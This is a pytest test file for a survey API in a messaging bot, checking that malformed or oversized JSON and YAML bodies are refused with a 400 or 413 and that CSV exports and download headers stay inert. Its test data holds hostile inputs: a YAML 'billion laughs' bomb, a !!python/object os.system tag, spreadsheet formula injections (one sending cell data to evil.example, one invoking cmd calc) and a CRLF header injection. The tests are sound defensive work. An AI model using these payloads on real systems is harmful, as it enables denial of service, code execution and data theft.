"""`/api/v1/surveys` refuses every malformed body with a 400 naming what is wrong, stores
nothing, logs no traceback; the results CSV is inert in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import time
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from aiohttp.web import Application

from bot.storage.tables import flow_runs, surveys, work_items
from tests.bot.pipeline.test_webhooks import body, post
from tests.conftest import count, eventually
from tests.fakes.echo_channel import EchoChannel
from tests.handlers.test_handover import say
from tests.surveys.test_engine import add_survey, contact_id, manager, send  # noqa: F401

VALID: dict[str, Any] = {
    "name": "feedback",
    "steps": [{"id": "comment", "type": "question", "text": "Anything to add?", "answer": "text"}],
}
JSON = "application/json"
YAML = "application/yaml"


def with_(**changes: Any) -> bytes:
    return json.dumps({**VALID, **changes}).encode()


def step_with(**changes: Any) -> bytes:
    return with_(steps=[{**VALID["steps"][0], **changes}])


def bomb(levels: int, width: int = 10) -> str:
    """A "billion laughs" YAML: `width ** levels` strings from a few hundred bytes, where a
    survey takes any value (a field to set)."""
    lines = ["      l0: &l0 [" + ", ".join(["lol"] * width) + "]"]
    for n in range(1, levels):
        lines.append(f"      l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * width) + "]")
    return (
        "name: feedback\nsteps:\n  - {id: comment, type: question, text: Hi, answer: text}\n"
        "on_complete:\n  - set_field:\n" + "\n".join(lines) + "\n"
    )


MALFORMED: list[tuple[str, bytes, str, str]] = [
    ("not JSON", b"{not json", JSON, "not JSON"),
    ("not UTF-8", b'{"name": "caf\xe9"}', JSON, "UTF-8"),
    ("deep JSON", b"[" * 5000 + b"]" * 5000, JSON, "deeper"),
    ("a number", b"3", JSON, "mapping"),
    ("an array", b"[]", JSON, "mapping"),
    ("a string", b'"survey"', JSON, "mapping"),
    ("null", b"null", JSON, "mapping"),
    ("empty", b"", JSON, "not JSON"),
    ("wrong type", with_(name=3), JSON, "name"),
    ("steps not a list", with_(steps="ask"), JSON, "steps"),
    ("step not a mapping", with_(steps=[7]), JSON, "steps.0"),
    ("infinite number", b'{"name": "x", "expire_after_hours": 1e999, "steps": []}', JSON, "finite"),
    ("huge integer", step_with(max_retries=2**70), JSON, "max_retries"),
    ("too many digits", b'{"name": "x", "min": ' + b"9" * 5000 + b"}", JSON, ""),
    ("huge integer anywhere", with_(on_complete=[{"set_field": {"plan": 2**70}}]), JSON, "plan"),
    ("unknown field", with_(colour="red"), JSON, "colour"),
    ("unknown step field", step_with(colour="red"), JSON, "step 'comment' (steps.0), colour"),
    ("YAML not UTF-8", b"name: caf\xe9\nsteps: []\n", YAML, "UTF-8"),
    ("YAML scalar", b"just some words", YAML, "mapping"),
    ("YAML list", b"- name: feedback\n", YAML, "mapping"),
    ("YAML deep", b"name: " + b"[" * 5000 + b"]" * 5000, YAML, "deeper"),
    ("YAML deep blocks", b"".join(b" " * n + b"- \n" for n in range(300)), YAML, "deeper"),
    ("YAML bomb", bomb(6).encode(), YAML, "alias"),
    ("YAML huge integer", b"name: x\nmax_retries: " + b"9" * 5000, YAML, ""),
    ("YAML python object", b"name: !!python/object/apply:os.system [id]", YAML, "YAML"),
    ("YAML bytes", b"name: !!binary aGk=\nsteps: []", YAML, "binary"),
    ("YAML set", b"name: !!set {a, b}\nsteps: []", YAML, "set"),
    # keys are read as written (YAML 1.1 would make `on:` or `no:` booleans): `1` is no field
    ("YAML unknown key", b"name: x\n1: one\nsteps: [{id: a, type: message}]", YAML, "1: Extra"),
    ("YAML infinite", b"name: x\nexpire_after_hours: .inf\nsteps: []", YAML, "finite"),
    ("YAML syntax", b"name: [unclosed\n", YAML, "YAML"),
]


@pytest.mark.parametrize(
    ("raw", "content_type", "says"),
    [case[1:] for case in MALFORMED],
    ids=[case[0] for case in MALFORMED],
)
async def test_a_malformed_survey_is_a_400_and_nothing_is_stored(
    client: TestClient,
    app: Application,
    manager: dict[str, str],  # noqa: F811
    caplog: pytest.LogCaptureFixture,
    raw: bytes,
    content_type: str,
    says: str,
) -> None:
    started = time.monotonic()
    resp = await client.post(
        "/api/v1/surveys", data=raw, headers={**manager, "Content-Type": content_type}
    )
    assert resp.status == 400, await resp.text()
    assert resp.content_type == "application/problem+json"
    assert says in (await resp.json())["detail"]
    assert time.monotonic() - started < 5  # no blow-up on the way to refusing it
    assert await count(app, surveys) == 0
    assert not [r for r in caplog.records if r.exc_info]


async def test_yaml_text_is_cleaned_and_dates_read_as_text(
    client: TestClient,
    app: Application,
    manager: dict[str, str],  # noqa: F811
) -> None:
    """YAML escapes can carry NUL and lone surrogates, which no database stores."""
    raw = (
        'name: "feed\\0back"\ndescription: "half \\ud800 pair"\nsteps:\n'
        "  - {id: comment, type: question, text: 2024-01-31, answer: text}\n"
    )
    resp = await client.post(
        "/api/v1/surveys", data=raw.encode(), headers={**manager, "Content-Type": YAML}
    )
    assert resp.status == 201, await resp.text()
    shown = await (
        await client.get(f"/api/v1/surveys/{(await resp.json())['id']}", headers=manager)
    ).json()
    assert shown["name"] == "feedback"
    assert shown["definition"]["description"] == "half \ufffd pair"
    assert shown["definition"]["steps"][0]["text"] == "2024-01-31"


SEND_MALFORMED: list[tuple[str, bytes, str]] = [
    ("not JSON", b"{contact_ids", "not JSON"),
    ("not UTF-8", b'{"contact_ids": "\xff"}', "UTF-8"),
    ("deep", b"[" * 5000 + b"]" * 5000, "deeper"),
    ("an array", b"[1, 2]", "body"),
    ("a number", b"1", "body"),
    ("wrong type", b'{"contact_ids": "1,2"}', "contact_ids"),
    ("a text id", b'{"contact_ids": ["1"]}', "contact_ids.0"),
    ("a true id", b'{"view_id": true}', "view_id"),
    ("a huge id", b'{"contact_ids": [1180591620717411303424]}', "contact_ids.0"),
    ("a negative id", b'{"contact_ids": [-1]}', "contact_ids.0"),
    ("unknown field", b'{"contact_ids": [1], "segment": "all"}', "segment"),
    ("both", b'{"contact_ids": [1], "view_id": 1}', "one of them"),
]


@pytest.mark.parametrize(
    ("raw", "says"), [case[1:] for case in SEND_MALFORMED], ids=[c[0] for c in SEND_MALFORMED]
)
async def test_a_malformed_send_is_a_400_and_nothing_starts(
    client: TestClient,
    app: Application,
    echo: EchoChannel,
    manager: dict[str, str],  # noqa: F811
    caplog: pytest.LogCaptureFixture,
    raw: bytes,
    says: str,
) -> None:
    survey = await add_survey(client, manager, json.dumps(VALID))
    await say(client, app, echo, "hello")
    resp = await client.post(
        f"/api/v1/surveys/{survey}/send", data=raw, headers={**manager, "Content-Type": JSON}
    )
    assert resp.status == 400, await resp.text()
    assert says in (await resp.json())["detail"]
    assert await count(app, flow_runs) == 0
    assert not [r for r in caplog.records if r.exc_info]


async def handled(app: Application) -> bool:
    return await count(app, work_items) == 0


async def test_the_results_csv_cannot_run_in_a_spreadsheet(
    client: TestClient,
    app: Application,
    echo: EchoChannel,
    manager: dict[str, str],  # noqa: F811
) -> None:
    """The contact picks their name and their answers: both arrive as inert text."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    answer = "@SUM(1+1)*cmd|' /C calc'!A0"
    await post(client, echo.id, body({"id": "n1", "from": "eve", "name": name, "text": "hi"}))
    await eventually(lambda: handled(app))  # "hi" must not answer the survey sent next
    survey = await add_survey(client, manager, json.dumps(VALID))
    await send(client, manager, survey, contact_ids=[await contact_id(app, "eve")])
    await eventually(lambda: any("Anything to add?" in str(o.parts) for o in echo.sent))
    await say(client, app, echo, answer, who="eve")
    exported = await (
        await client.get(f"/api/v1/surveys/{survey}/results.csv", headers=manager)
    ).text()
    (row,) = csv.DictReader(io.StringIO(exported))
    assert row["status"] == "completed"
    assert row["contact_name"] == "'" + name
    assert row["comment"] == "'" + answer


async def test_a_huge_survey_is_refused_before_it_is_parsed(
    client: TestClient,
    app: Application,
    manager: dict[str, str],  # noqa: F811
) -> None:
    raw = b"# padding\n" * 60_000 + b"name: feedback\n"
    resp = await client.post("/api/v1/surveys", data=raw, headers={**manager, "Content-Type": YAML})
    assert resp.status == 413 and "at most" in (await resp.json())["detail"]
    assert await count(app, surveys) == 0


async def test_a_survey_name_cannot_break_out_of_the_download_header(
    client: TestClient,
    manager: dict[str, str],  # noqa: F811
) -> None:
    survey = await add_survey(client, manager, with_(name='q3"; x=\r\nSet-Cookie: a=b').decode())
    resp = await client.get(f"/api/v1/surveys/{survey}/results.csv", headers=manager)
    assert resp.status == 200
    assert "Set-Cookie" not in resp.headers
    disposition = resp.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="q3_x_Set-Cookie_a_b-results.csv"; ')
    assert "filename*=UTF-8''q3%22%3B%20x%3D%0D%0ASet-Cookie%3A%20a%3Db-results.csv" in disposition


async def test_results_are_keyed_by_the_field_each_answer_was_saved_to(
    client: TestClient,
    app: Application,
    echo: EchoChannel,
    manager: dict[str, str],  # noqa: F811
) -> None:
    survey = await add_survey(client, manager)
    await say(client, app, echo, "hello", who="u")
    await send(client, manager, survey, contact_ids=[await contact_id(app)])
    for answer in ("pro", "12", "ana@acme.example"):
        await say(client, app, echo, answer)
    results = await (await client.get(f"/api/v1/surveys/{survey}/results", headers=manager)).json()
    (run,) = results["items"]
    assert run["answers"] == {"plan": "pro", "seats": 12.0, "email": "ana@acme.example"}
    assert run["fields"] == {"plan": "pro", "seats": 12.0, "work_email": "ana@acme.example"}
